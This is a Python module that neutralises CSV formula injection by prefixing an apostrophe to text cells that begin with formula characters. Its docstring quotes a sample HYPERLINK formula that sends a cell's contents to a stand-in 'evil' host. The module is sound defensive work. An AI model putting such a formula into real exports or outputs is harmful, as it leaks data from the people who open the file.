"""CSV files that cannot attack the person who opens them in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading a formula) is run as a formula by Excel, LibreOffice and
Google Sheets: ``=HYPERLINK("https://evil/?"&A1, "click")`` in a model's output or an
annotator's rationale would leak or mislead a lead who opens the export. Every text cell
that starts so gets a leading apostrophe (OWASP's CSV-injection advice), which the
spreadsheet shows as text; numbers, booleans and missing values are untouched. JSONL and
Parquet carry the exact text.
"""

from __future__ import annotations

from typing import Any

FORMULA_START = r"^[=+\-@\t\r]"


def defuse(table: Any) -> Any:
    """A copy of the pyarrow ``table`` whose text cells cannot start a formula."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for col in table.columns:
        if pa.types.is_string(col.type) or pa.types.is_large_string(col.type):
            risky = pc.fill_null(pc.match_substring_regex(col, FORMULA_START), False)
            col = pc.if_else(risky, pc.binary_join_element_wise("'", col, ""), col)
        columns.append(col)
    return pa.table(columns, names=table.column_names)
